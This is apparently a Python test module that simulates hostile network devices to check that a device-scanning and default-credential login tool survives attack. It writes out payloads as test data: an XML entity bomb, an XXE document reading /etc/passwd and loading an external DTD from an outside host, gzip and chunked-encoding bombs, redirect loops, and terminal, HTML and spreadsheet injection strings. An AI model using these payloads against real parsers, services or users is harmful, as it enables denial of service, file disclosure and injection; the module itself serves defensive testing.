"""Hostile devices that attack over HTTP, UPnP and HTTP logins."""

import asyncio
import gzip
import html

from tests.hostile.street import (
    CREDENTIALS,
    OUTSIDE,
    STREET,
    Answerer,
    Handler,
    Hostile,
    Told,
    at,
    endlessly,
    hang,
    page,
    pages,
    read_request,
)

CANARY = "loytec4u"
"""The password that the catalogue documents for LOYTEC, and that no word of ours contains."""
LOYTEC = b"Server: LOYTEC LINX-151/6.2.4"
ASKS = b'WWW-Authenticate: Basic realm="LINX-151"'
BYSTANDER, BYSTANDER_PORT = f"{STREET}.60", 8088

# All that a terminal, a renderer, a browser, a spreadsheet or a reader could obey. No line breaks: in a header they would end it.
DRESS = (
    "\x1b]0;pwned\x07\x1b[2J\x1b[31m[bold red]PWNED[/bold red][link=http://127.67.0.1/]click[/link]"
    '<script>alert("x")</script>\u202egnp.exe\u2066\u200b\ufeff\u00ad\x7f\x08\x0b\u0085\u009b31m\u2028=HYPERLINK("http://127.67.0.1/")'
)
DRESSED = DRESS.encode()


def devices() -> list[Hostile]:
    """One address each, hosts 6 to 25."""
    return [
        Hostile(
            "the same page at every port", 6, at(21, 22, 23, 80, 443, 502, 554, 1883, 8080, 8443, handler=pages(_page))
        ),
        Hostile("headers of ten megabytes", 7, at(80, handler=_huge_headers)),
        Hostile("a body of a gigabyte", 8, at(80, handler=_gigabyte)),
        Hostile("chunks without end", 9, at(80, 8080, handler=_chunks)),
        Hostile("a gzip bomb", 10, at(80, handler=pages(_gzip_bomb))),
        Hostile("redirects without end", 11, at(80, handler=pages(_loop))),
        _pointing(12, f"http://{OUTSIDE}:80/d.xml"),
        _pointing(13, f"http://{BYSTANDER}:{BYSTANDER_PORT}/d.xml"),
        _pointing(14, f"http://{STREET}.14:9100/d.xml"),
        Hostile(
            "an XML bomb",
            15,
            at(80, 49152, handler=pages(_xml_bomb)),
            {1900: _located(f"http://{STREET}.15:49152/d.xml")},
        ),
        Hostile(
            "an XML entity from outside",
            16,
            at(80, 49152, handler=pages(_xxe)),
            {1900: _located(f"http://{STREET}.16:49152/d.xml")},
        ),
        Hostile("401 when busy", 17, at(80, handler=pages(_busy))),
        Hostile("200 for everything", 18, at(80, 8080, handler=pages(_loytec_for_everything))),
        Hostile("locks an account after two failures", 19, at(80, handler=pages(_locking))),
        Hostile("locks at the first failure", 20, at(80, 8080, handler=pages(_hasty))),
        Hostile("repeats what it hears", 21, at(80, 8080, handler=pages(_echo))),
        Hostile("holds each login for thirty seconds", 22, at(80, handler=_tarpit)),
        Hostile("a page of a million tags", 23, at(80, handler=pages(_tags))),
        Hostile("a challenge without end", 24, at(80, handler=pages(_challenges))),
    ]


def _page(head: bytes, told: Told) -> bytes:
    return page(b"<title>everything</title>", b"Server: everything")


async def _huge_headers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, told: Told) -> None:
    await read_request(reader, told)
    writer.write(b"HTTP/1.1 200 OK\r\n")
    for number in range(1280):
        writer.write(b"X-%d: %b\r\n" % (number, b"y" * 8192))
        await writer.drain()
    writer.write(b"\r\n")


async def _gigabyte(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, told: Told) -> None:
    await read_request(reader, told)
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 1073741824\r\n\r\n<title>gigabyte</title>")
    await endlessly(writer, bytes(65536))


async def _chunks(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, told: Told) -> None:
    """Ever one byte at a time, then one of four gigabytes."""
    await read_request(reader, told)
    writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1;" + b"x" * 4096 + b"\r\nA\r\n")
    writer.write(b"1\r\nA\r\n" * 20000 + b"ffffffff\r\n")
    await endlessly(writer, b"A" * 65536)


def _gzip_bomb(head: bytes, told: Told) -> bytes:
    return page(gzip.compress(bytes(100_000_000), 1), b"Content-Encoding: gzip", b"Content-Type: text/html")


def _loop(head: bytes, told: Told) -> bytes:
    return page(b"", b"Location: /%d" % len(told.requests), status=b"302 Found")


def _located(location: str) -> Answerer:
    answer = (
        b'HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nUSN: uuid:1\r\nEXT:\r\nSERVER: hostile\r\nLOCATION: %b\r\n\r\n' % location.encode()
    )  # fmt: skip
    return lambda datagram, told: [answer] * 3


def _pointing(host: int, location: str) -> Hostile:
    """HTTP, a page, a form and SSDP that all point there."""

    def respond(head: bytes, told: Told) -> bytes:
        if head.startswith(b"GET / "):
            return page(b"", b"Location: " + location.encode(), LOYTEC, status=b"302 Found")
        return page(f'<meta http-equiv="refresh" content="0;url={location}">'.encode())

    def refreshing(head: bytes, told: Told) -> bytes:
        return page(
            f'<meta http-equiv="refresh" content="0;url={location}"><title>x</title>'.encode(),
            ASKS,
            LOYTEC,
            status=b"401 No",
        )

    return Hostile(
        f"points to {location}",
        host,
        {80: pages(respond), 8080: pages(refreshing), 9100: pages(_page)},
        {1900: _located(location)},
    )


def _described(doctype: bytes, text: bytes) -> bytes:
    return page(
        b'<?xml version="1.0"?>' + doctype + b'<root xmlns="urn:schemas-upnp-org:device-1-0"><device><manufacturer>' + text
        + b"</manufacturer><modelName>" + text + b"</modelName><serialNumber>" + text + b"</serialNumber></device></root>"
    )  # fmt: skip


def _xml_bomb(head: bytes, told: Told) -> bytes:
    entities = [b'<!ENTITY a0 "lol">', *(b'<!ENTITY a%d "%b">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))]
    return _described(b"<!DOCTYPE root [" + b"".join(entities) + b"]>", b"&a11;")


def _xxe(head: bytes, told: Told) -> bytes:
    return _described(
        b'<!DOCTYPE root [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://OUTSIDE/x">'
        b'<!ENTITY % ext SYSTEM "http://OUTSIDE/e.dtd"> %ext;]>'.replace(b"OUTSIDE", OUTSIDE.encode()),
        b"x&file;&net;",
    )


def _unauthorised() -> bytes:
    return page(b"<title>LINX-151</title>", LOYTEC, ASKS, status=b"401 Unauthorized")


def _busy(head: bytes, told: Told) -> bytes:
    """It has room for two, and says 401 without a challenge to everybody after that."""
    return (
        _unauthorised() if len(told.requests) <= 3 else page(b"too many sessions", LOYTEC, status=b"401 Unauthorized")
    )


def _loytec_for_everything(head: bytes, told: Told) -> bytes:
    return page(b'<title>LINX-151 - LOYTEC</title><form><input type="password"></form>', LOYTEC, ASKS)


def _locking(head: bytes, told: Told) -> bytes:
    if CREDENTIALS.search(head) and max(told.accounts.values()) > 2:
        return page(b"account locked", LOYTEC, status=b"423 Locked")
    return _unauthorised()


def _hasty(head: bytes, told: Told) -> bytes:
    if told.accounts:
        return page(b"slow down", LOYTEC, ASKS, status=b"429 Too Many Requests")
    return _unauthorised()


def _echo(head: bytes, told: Told) -> bytes:
    """Whatever it has ever been told, in every field, and the documented account opens it."""
    sent = [found.decode() for heard in told.requests for found in CREDENTIALS.findall(heard)]
    said = " ".join([*told.passwords, *sent]).encode()
    fields = (
        b"Server: LOYTEC LINX-151/6.2.4 " + said,
        b"X-Echo: " + said,
        b"Set-Cookie: " + said.replace(b" ", b"") + b"=1",
    )
    body = b"<title>you sent %b</title><p>%b</p>" % (said, html.escape(said.decode()).encode())
    if told.requests[-1].find(b"Authorization") >= 0 and told.passwords[-1] == CANARY:
        return page(body, *fields)
    return page(body, *fields, b'WWW-Authenticate: Basic realm="%b"' % said, status=b"401 " + (said or b"Unauthorized"))


async def _tarpit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, told: Told) -> None:
    head = await read_request(reader, told)
    if CREDENTIALS.search(head):
        try:
            async with asyncio.timeout(30):
                await hang(reader)
        except TimeoutError:
            pass
    writer.write(_unauthorised())


def _tags(head: bytes, told: Told) -> bytes:
    return page(b"<" * 20000 + b"<a " + b"b=" * 20000 + b"<title" * 5000 + b">" + b"&#x1b;" * 1000 + b"<script>" * 1000)


def _challenges(head: bytes, told: Told) -> bytes:
    many = (b'WWW-Authenticate: Digest realm="%b", nonce="%b", qop="%b"' % ((b"\\" * 3000,) * 3),)
    return page(b"", LOYTEC, *many, b"WWW-Authenticate: " + b'Basic realm="a", ' * 500, status=b"401 Unauthorized")


def dressed_page() -> Handler:
    """Every text of an answer is dressed up."""

    def respond(head: bytes, told: Told) -> bytes:
        body = b"<title>DRESS %b</title><meta name=generator content='%b'><p>%b" % (
            DRESSED,
            DRESSED.replace(b'"', b""),
            DRESSED,
        )
        return page(
            body,
            LOYTEC + b" " + DRESSED,
            b'WWW-Authenticate: Basic realm="%b"' % DRESSED.replace(b'"', b"'"),
            b"Location: /" + DRESSED,
            b"X-" + DRESSED.replace(b":", b"") + b": x",
            b"Set-Cookie: " + DRESSED + b"=1",
            b"Last-Modified: " + DRESSED,
            status=b"401 " + DRESSED,
        )

    return pages(respond)


def dressed_description() -> Handler:
    """A UPnP description with every field dressed up."""
    fields = ("manufacturer", "modelName", "modelNumber", "modelDescription", "serialNumber", "friendlyName", "UDN")
    elements = "".join(f"<{name}>{html.escape(DRESS)}</{name}>" for name in fields)
    return pages(lambda head, told: page(f"<root><device>{elements}</device></root>".encode()))
